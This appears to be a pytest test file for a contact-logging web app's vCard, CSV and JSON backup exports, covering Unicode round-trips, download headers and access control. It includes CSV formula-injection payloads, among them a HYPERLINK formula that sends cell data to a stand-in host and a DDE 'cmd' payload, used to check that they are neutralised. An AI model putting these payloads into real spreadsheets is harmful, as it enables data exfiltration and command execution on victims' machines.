"""Exports: vCards that address books read back, CSV that spreadsheets open safely, and who may download."""

import codecs
import csv
import io
import json

import pytest
import vobject
from steps import NOTES_WITH_PUNCTUATION, account, add_event, fill, today

from webapp.exports.spreadsheet import COLUMNS, neutralised


@pytest.fixture
def ids(client, user):
    return fill(account().id)


def cards(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/vcard; charset=utf-8"
    return list(vobject.readComponents(response.get_data(as_text=True)))


def rows(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    data = response.get_data()
    assert data.startswith(codecs.BOM_UTF8), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def by_name(found):
    return {c.fn.value: c for c in found}


def test_a_persons_vcard_reads_back_with_every_field(client, ids):
    (card,) = cards(client.get(f"/people/{ids['bruce']}/contact.vcf"))
    assert card.version.value == "3.0"
    assert card.fn.value == "李小龍"
    assert card.n.value.given == "李小龍" and card.n.value.family == ""
    assert card.org.value == ["Golden Harvest, Ltd."]
    assert card.title.value == "CTO; founder"
    assert card.email.value == "bruce@example.com" and card.email.params["TYPE"] == ["INTERNET"]
    assert card.tel.value == "+852 2345 6789"
    assert card.url.value == "https://www.linkedin.com/in/bruce-lee/"
    assert card.x_socialprofile.value == "https://www.linkedin.com/in/bruce-lee/"
    assert card.x_socialprofile.params["TYPE"] == ["linkedin"]
    assert sorted(card.categories.value) == ["founder", "rust", "日本語"]
    note = card.note.value
    assert "Met at 東京 Rust 勉強会 on 2026-01-15:\nRust in games" in note
    assert ("Met at PyData Berlin: Dezember, Käse & Pizza on 2026-12-03 (Valeska-Gert-Straße 5, Berlin):\n"
            + NOTES_WITH_PUNCTUATION) in note
    assert note.index("東京") < note.index("PyData"), "meetings are listed oldest first"


def test_a_name_is_split_into_given_and_family_names(client, ids):
    (card,) = cards(client.get(f"/people/{ids['zoe']}/contact.vcf"))
    assert card.fn.value == "Zoë Ægirsdóttir"
    assert (card.n.value.given, card.n.value.family) == ("Zoë", "Ægirsdóttir")
    assert card.org.value == ["Ørsted"]
    assert card.note.value.startswith("red jacket, Postgres talk\n\n")
    assert not hasattr(card, "email") and not hasattr(card, "url")


def test_someone_whose_name_was_not_caught_is_saved_under_the_description(client, ids):
    """Shown under the few words they were logged by, with no name (an empty N): a phone shows the words, and
    the card brought back in is someone with no name, recognised by them."""
    (card,) = cards(client.get(f"/people/{ids['nameless']}/contact.vcf"))
    assert card.fn.value == 'tall guy; asked about "sync", Kotlin'
    assert (card.n.value.given, card.n.value.family) == ("", "")
    assert card.note.value.startswith(card.fn.value)


def test_everyone_as_vcards_gives_one_card_per_person(client, ids):
    found = by_name(cards(client.get("/export/contacts.vcf")))
    assert set(found) == {"李小龍", "Zoë Ægirsdóttir", 'tall guy; asked about "sync", Kotlin',
                          '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    assert len({c.uid.value for c in found.values()}) == 4


def test_the_same_person_exported_twice_keeps_the_same_card_uid(client, ids):
    first = cards(client.get(f"/people/{ids['bruce']}/contact.vcf"))[0].uid.value
    again = by_name(cards(client.get("/export/contacts.vcf")))["李小龍"].uid.value
    assert first == again


def test_an_events_vcards_are_everyone_met_there_and_nobody_else(client, ids):
    assert [c.fn.value for c in cards(client.get(f"/events/{ids['tokyo']}/contacts.vcf"))] == ["李小龍"]
    assert len(cards(client.get(f"/events/{ids['pydata']}/contacts.vcf"))) == 4


def test_downloads_are_named_for_the_event_in_utf8(client, ids):
    response = client.get(f"/events/{ids['tokyo']}/contacts.vcf")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "filename*=UTF-8''%E6%9D%B1%E4%BA%AC%20Rust" in disposition
    assert response.headers["Cache-Control"] == "private, no-store"
    response = client.get(f"/events/{ids['pydata']}/people.csv")
    disposition = response.headers["Content-Disposition"]
    assert 'filename="PyData Berlin Dezember, Kase & Pizza 2026-12-03.csv"' in disposition


def test_the_csv_reads_back_with_commas_quotes_newlines_and_non_latin_names(client, ids):
    table = rows(client.get("/export/people.csv"))
    assert table[0] == COLUMNS
    records = [dict(zip(COLUMNS, r, strict=True)) for r in table[1:]]
    bruce_at_pydata = next(r for r in records if r["Name"] == "李小龍" and r["Event"].startswith("PyData"))
    assert bruce_at_pydata["Notes"] == NOTES_WITH_PUNCTUATION
    assert bruce_at_pydata["Company"] == "Golden Harvest, Ltd."
    assert bruce_at_pydata["Phone"] == "'+852 2345 6789"  # a leading + would start a formula
    assert bruce_at_pydata["Tags"] == "founder, rust, 日本語"
    assert bruce_at_pydata["Event"] == "PyData Berlin: Dezember, Käse & Pizza"
    assert bruce_at_pydata["Event date"] == "2026-12-03"
    assert bruce_at_pydata["Hiring"] == "yes" and bruce_at_pydata["Connected on LinkedIn"] == "yes"
    zoe = next(r for r in records if r["Name"] == "Zoë Ægirsdóttir")
    assert zoe["Description"] == "red jacket, Postgres talk"
    assert zoe["Notes"] == "Ørsted is hiring; ask Zoë about Kafka"
    nameless = 'tall guy; asked about "sync", Kotlin'
    assert any(r["Description"] == nameless and r["Name"] == "" for r in records)


def test_the_csv_has_one_row_per_person_per_event(client, ids):
    records = rows(client.get("/export/people.csv"))[1:]
    assert len(records) == 5
    event = COLUMNS.index("Event")
    assert sorted(r[event] for r in records if r[0] == "李小龍") == ["PyData Berlin: Dezember, Käse & Pizza",
                                                                  "東京 Rust 勉強会"]


def test_an_events_csv_has_only_the_rows_for_that_event(client, ids):
    records = rows(client.get(f"/events/{ids['tokyo']}/people.csv"))[1:]
    event, notes = COLUMNS.index("Event"), COLUMNS.index("Notes")
    assert [(r[0], r[event], r[notes]) for r in records] == [("李小龍", "東京 Rust 勉強会", "Rust in games")]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, ids):
    records = rows(client.get("/export/people.csv"))[1:]
    sneaky = dict(zip(COLUMNS, next(r for r in records if "HYPERLINK" in r[0]), strict=True))
    assert sneaky["Name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert sneaky["Company"] == "'+1 (555) 0100"
    assert sneaky["Role"] == "'-2+3"
    assert sneaky["Email"] == "'@attacker"
    assert sneaky["Notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for record in records:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ada", "Ada"), ("a=b", "a=b"), ("", ""), ("'quoted", "'quoted"),
])
def test_a_cell_is_neutralised_only_when_it_starts_like_a_formula(cell, safe):
    assert neutralised(cell) == safe


def test_an_empty_account_offers_no_contacts_to_export_and_its_backup_is_a_valid_empty_file(client, user):
    page = client.get("/export").get_data(as_text=True)
    assert "0 people and 0 events so far." in page
    assert "contacts.vcf" not in page and "people.csv" not in page and "backup.json" in page
    for export in ("/export/contacts.vcf", "/export/people.csv"):
        response = client.get(export)  # an address kept from before, or typed
        assert response.status_code == 404 and response.mimetype == "text/html"
        assert "Nobody is logged as met yet" in response.get_data(as_text=True)
    document = json.loads(client.get("/export/backup.json").get_data(as_text=True))
    assert document["format"] == "hallway-backup" and document["version"] == 2
    for part in ("events", "people", "conversations", "tags", "person_tags", "follow_ups", "outcomes",
                 "attachments"):
        assert document[part] == []
    assert "email" not in document["profile"] and "password_hash" not in document["profile"]


def test_an_event_with_nobody_met_offers_no_export_and_its_addresses_say_there_is_nobody(client, user):
    url = add_event(client, name="Quiet evening")
    page = client.get(url).get_data(as_text=True)
    assert "contacts.vcf" not in page and "people.csv" not in page
    for export in ("/contacts.vcf", "/people.csv"):
        response = client.get(url + export)
        assert response.status_code == 404 and response.mimetype == "text/html"
        assert "Nobody is logged as met at Quiet evening yet" in response.get_data(as_text=True)


def test_another_users_event_and_person_exports_are_not_found(client, auth, ids):
    auth.logout()
    auth.signup(email="eve@example.com", name="Eve")
    for url in (f"/events/{ids['pydata']}/contacts.vcf", f"/events/{ids['pydata']}/people.csv",
                f"/people/{ids['bruce']}/contact.vcf", "/events/999999/contacts.vcf",
                "/people/999999/contact.vcf"):
        response = client.get(url)
        assert response.status_code == 404, url
        assert "李小龍" not in response.get_data(as_text=True)
    assert client.get("/export/contacts.vcf").status_code == 404  # Eve met nobody: Ada's people are not hers
    assert json.loads(client.get("/export/backup.json").get_data())["people"] == []


def test_exports_need_a_login(client):
    for url in ("/export", "/export/contacts.vcf", "/export/people.csv", "/export/backup.json",
                "/events/1/contacts.vcf", "/people/1/contact.vcf", "/import/calendar", "/import/backup"):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"], url


def test_the_export_page_is_one_tap_from_the_profile_and_lists_everything(client, ids):
    assert 'href="/export"' in client.get("/profile").get_data(as_text=True)
    page = client.get("/export").get_data(as_text=True)
    for link in ("/export/contacts.vcf", "/export/people.csv", "/export/backup.json", "/import/calendar",
                 "/import/backup"):
        assert f'href="{link}"' in page


def test_the_export_page_counts_what_there_is_to_export(client, ids):
    assert "4 people and 2 events so far." in client.get("/export").get_data(as_text=True)


def test_person_and_event_pages_link_to_their_exports(client, ids):
    page = client.get(f"/people/{ids['bruce']}").get_data(as_text=True)
    assert f'href="/people/{ids["bruce"]}/contact.vcf"' in page and "Save as contact" in page
    event = f"/events/{ids['pydata']}"
    page = client.get(event).get_data(as_text=True)
    assert f'href="{event}/contacts.vcf"' in page and f'href="{event}/people.csv"' in page


def _jpeg(side, colour):
    from PIL import Image
    out = io.BytesIO()
    Image.new("RGB", (side, side), colour).save(out, "JPEG")
    return out.getvalue()


def _add_photo(person_id, side, colour, thumbnail=True):
    from webapp import db
    from webapp.models import Attachment, Person
    with db.database().connection_context():
        person = Person.get_by_id(person_id)
        Attachment.create(owner=person.owner_id, person=person, kind="photo", content_type="image/jpeg",
                          content=_jpeg(side, colour), thumbnail=_jpeg(side // 4, colour) if thumbnail else None,
                          width=side, height=side)


def _photo_of(card):
    from PIL import Image
    assert card.photo.params["ENCODING"] == ["b"] and card.photo.params["TYPE"] == ["JPEG"]
    image = Image.open(io.BytesIO(card.photo.value))
    assert image.format == "JPEG"
    return image.size, image.getpixel((0, 0))


def test_a_contact_card_carries_the_persons_latest_photo_as_a_small_jpeg(client, ids):
    _add_photo(ids["bruce"], 400, (200, 0, 0))
    _add_photo(ids["bruce"], 400, (0, 0, 200))  # the latest
    _add_photo(ids["zoe"], 64, (0, 200, 0), thumbnail=False)  # restored without its small copy
    (card,) = cards(client.get(f"/people/{ids['bruce']}/contact.vcf"))
    (size, (red, _, blue)) = _photo_of(card)
    assert size == (100, 100) and blue > 150 > red
    everyone = by_name(cards(client.get("/export/contacts.vcf")))
    assert _photo_of(everyone["李小龍"])[0] == (100, 100)
    assert _photo_of(everyone["Zoë Ægirsdóttir"])[0] == (64, 64)
    assert not hasattr(everyone['tall guy; asked about "sync", Kotlin'], "photo")
    event = by_name(cards(client.get(f"/events/{ids['tokyo']}/contacts.vcf")))
    assert _photo_of(event["李小龍"])[0] == (100, 100)


def test_someone_met_on_a_conferences_second_day_is_exported_as_met_that_day(client, user):
    import datetime

    from webapp import db
    from webapp.models import Conversation, Event, Person, User
    with db.database().connection_context():
        ada = User.get()
        User.update(timezone="America/New_York").where(User.id == ada.id).execute()
        conf = Event.create(owner=ada, name="DataConf 2025", kind="conference", starts_on=datetime.date(2025, 9, 15),
                            ends_on=datetime.date(2025, 9, 17))
        # 22:30 in New York on the 16th is already the 17th in UTC.
        late = Person.create(owner=ada, name="Nia Late")
        Conversation.create(person=late, event=conf, created_at=datetime.datetime(2025, 9, 17, 2, 30))
        # Added a month later: the day they were met is not known, so the conference's first day.
        after = Person.create(owner=ada, name="Ola After")
        Conversation.create(person=after, event=conf, created_at=datetime.datetime(2025, 10, 20, 12, 0))
    found = by_name(cards(client.get(f"/events/{conf.id}/contacts.vcf")))
    assert found["Nia Late"].note.value == "Met at DataConf 2025 on 2025-09-16"
    assert found["Ola After"].note.value == "Met at DataConf 2025 on 2025-09-15"
    table = rows(client.get("/export/people.csv"))
    dates = {row[0]: row[COLUMNS.index("Event date")] for row in table[1:]}
    assert dates == {"Nia Late": "2025-09-16", "Ola After": "2025-09-15"}


def test_someone_met_on_a_day_with_no_event_planned_is_exported_as_met_that_day_at_no_event(client, user):
    assert client.post("/met", data={"name": "Quick Quinn", "hiring": "y", "notes": "ask about Rust"}
                       ).status_code == 302
    (card,) = cards(client.get("/export/contacts.vcf"))
    assert card.note.value == f"Hiring\n\nMet on {today().isoformat()}:\nask about Rust"
    (row,) = [dict(zip(COLUMNS, r, strict=True)) for r in rows(client.get("/export/people.csv"))[1:]]
    assert (row["Event"], row["Event date"], row["Notes"]) == ("", today().isoformat(), "ask about Rust")
